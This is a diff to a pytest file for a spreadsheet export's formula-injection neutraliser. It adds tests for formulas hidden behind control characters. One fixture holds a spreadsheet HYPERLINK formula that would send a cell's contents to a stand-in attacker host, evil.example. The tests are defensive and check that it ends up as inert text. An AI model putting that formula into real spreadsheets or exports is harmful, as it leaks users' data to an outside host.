@@ -107,6 +107,12 @@ def test_injection_payloads_become_text(payload):
     assert neutralise(payload) == "'" + payload
 
 
+@pytest.mark.parametrize("payload", ["\x01=1+1", "\x08\x00@SUM(A1)", "\x7f+cmd", " \x1f-2+3"])
+def test_formulas_behind_control_characters_become_text(payload):
+    # the XLSX writer removes the control characters Excel refuses, which would leave the formula live
+    assert neutralise(payload) == "'" + payload
+
+
 @pytest.mark.parametrize("value", ["hello", "-5", "+1.5", "3.2e-4", " -5 ", "user@example.com", "a=b", "",
                                    "   ", "e-mail", 42, -5, -5.0, None, True])
 def test_harmless_values_are_untouched(value):
@@ -151,6 +157,8 @@ def test_excel_sheet_names_are_valid_and_unique():
 def test_xlsx_reads_back_neutralised_with_bold_header():
     sections = sample_sections()
     sections[1].table.loc[0, "influencer"] = "bell\x07 =1+1"   # a control character Excel rejects
+    # ...and one in front of a formula: the writer removes it, and what it hid must not run
+    sections[1].table.loc[3, "influencer"] = '\x01=HYPERLINK("http://evil.example/?"&A1,"Olivia")'
     workbook = openpyxl.load_workbook(io.BytesIO(to_xlsx(sections)))
     assert workbook.sheetnames == ["Cost vs celebrity", "Roster", "Prices fees Q3", "About"]
     roster = workbook["Roster"]
@@ -158,7 +166,7 @@ def test_xlsx_reads_back_neutralised_with_bold_header():
     assert all(c.font.bold for c in roster[1])
     assert roster.freeze_panes == "A2"
     assert [roster.cell(r, 1).value for r in range(2, 8)] == [
-        "bell =1+1", HOSTILE[1], "'@SUM(A1)", "café crème ☕", "-5", "'+1+1"]
+        "bell =1+1", HOSTILE[1], "'@SUM(A1)", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Olivia\")", "-5", "'+1+1"]
     assert all(roster.cell(r, 1).data_type == "s" for r in range(2, 8))   # no formula cells at all
     assert roster.cell(6, 2).value == -5                 # a negative number stays a number
     assert roster.cell(4, 3).value is None               # NaN -> empty
